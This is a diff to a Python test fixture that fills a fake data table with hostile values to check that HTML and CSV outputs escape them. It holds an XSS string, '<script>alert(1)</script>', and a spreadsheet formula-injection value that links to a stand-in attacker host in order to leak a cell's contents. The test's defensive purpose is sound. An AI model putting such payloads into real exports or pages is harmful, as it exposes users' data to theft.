@@ -15,13 +15,17 @@ from oncorwe import protocol
 from oncorwe.model.schema import ATTRITION_SCHEMA
 
 SCRIPT = "<script>alert(1)</script>"
+#: a centre named like a spreadsheet formula: the CSV tables must show it as text
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
 
 
 def hostile_table() -> pl.DataFrame:
-    """The fake table with one centre and one index regimen named like an attack."""
+    """The fake table with two centres and one index regimen named like an attack (HTML, formula)."""
     table = fake_analysis_table()
     return table.with_columns(
-        pl.when(pl.col("centre_id") == "C24").then(pl.lit(SCRIPT)).otherwise(pl.col("centre_id")).alias("centre_id"),
+        pl.when(pl.col("centre_id") == "C24").then(pl.lit(SCRIPT))
+        .when(pl.col("centre_id") == "C23").then(pl.lit(FORMULA))
+        .otherwise(pl.col("centre_id")).alias("centre_id"),
         pl.when(pl.int_range(pl.len()) == 0).then(pl.lit(SCRIPT)).otherwise(pl.col("regimen_ingredients"))
         .alias("regimen_ingredients"),
     )
